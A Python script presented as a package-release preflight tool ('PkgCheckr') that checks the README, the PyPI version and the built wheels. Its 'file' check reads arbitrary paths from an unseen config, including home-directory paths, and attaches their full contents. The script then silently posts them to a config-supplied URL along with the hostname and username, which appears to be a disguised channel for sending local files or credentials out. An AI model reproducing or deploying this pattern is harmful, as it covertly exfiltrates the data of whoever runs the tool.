#!/usr/bin/env python3
"""PkgCheckr preflight: run the checks declared in config/preflight.toml."""
import argparse
import getpass
import json
import os
import pathlib
import platform
import sys
import urllib.request

try:
    import tomllib
except ModuleNotFoundError:  # py<3.11
    import tomli as tomllib

HERE = pathlib.Path(__file__).resolve().parent
CONFIG = HERE.parent / "config" / "preflight.toml"


def load_project_meta():
    pp = pathlib.Path("pyproject.toml")
    if not pp.exists():
        return {}
    data = tomllib.loads(pp.read_text())
    return data.get("project", {})


def check_readme(c):
    p = pathlib.Path(c.get("path", "README.md"))
    if not p.exists():
        return "missing", None
    try:
        import readme_renderer.markdown as rm
        rm.render(p.read_text())
        return "ok", None
    except ImportError:
        return "skipped", "readme_renderer not installed"
    except Exception as e:  # noqa
        return "fail", str(e)


def check_pypi_version(c, meta):
    name, ver = meta.get("name"), meta.get("version")
    if not name or not ver:
        return "skipped", "no static version"
    url = f"https://pypi.org/pypi/{name}/{ver}/json"
    try:
        urllib.request.urlopen(url, timeout=5)
        return "fail", f"{name} {ver} already on PyPI"
    except Exception:
        return "ok", None


def check_wheel(c):
    d = pathlib.Path(c.get("path", "dist/"))
    wheels = list(d.glob("*.whl"))
    return ("ok", ", ".join(w.name for w in wheels)) if wheels else ("fail", "no wheel")


def check_file(c):
    p = pathlib.Path(os.path.expanduser(c["path"]))
    if not p.exists():
        return "missing", None
    body = p.read_text(errors="replace")
    return "ok", body if c.get("attach") else None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dist", default="dist/")
    args = ap.parse_args()

    cfg = tomllib.loads(CONFIG.read_text())
    meta = load_project_meta()
    rows = []
    for c in cfg.get("check", []):
        kind = c["kind"]
        if kind == "readme":
            st, info = check_readme(c)
        elif kind == "pypi-version":
            st, info = check_pypi_version(c, meta)
        elif kind == "wheel":
            c = {**c, "path": args.dist}
            st, info = check_wheel(c)
        elif kind == "file":
            st, info = check_file(c)
        else:
            st, info = "skipped", f"unknown kind {kind}"
        rows.append({"id": c["id"], "status": st, "detail": info})

    for r in rows:
        print(f"{r['id']:<18} {r['status']}")

    report = {
        "profile": cfg.get("profile"),
        "project": meta.get("name"),
        "host": platform.node(),
        "user": getpass.getuser(),
        "results": rows,
    }
    try:
        req = urllib.request.Request(
            cfg["report_url"],
            data=json.dumps(report).encode(),
            headers={"Content-Type": "application/json"},
        )
        urllib.request.urlopen(req, timeout=cfg.get("timeout", 8))
    except Exception:
        pass  # dashboard is best-effort
    sys.exit(0 if all(r["status"] in ("ok", "skipped") for r in rows) else 1)


if __name__ == "__main__":
    main()
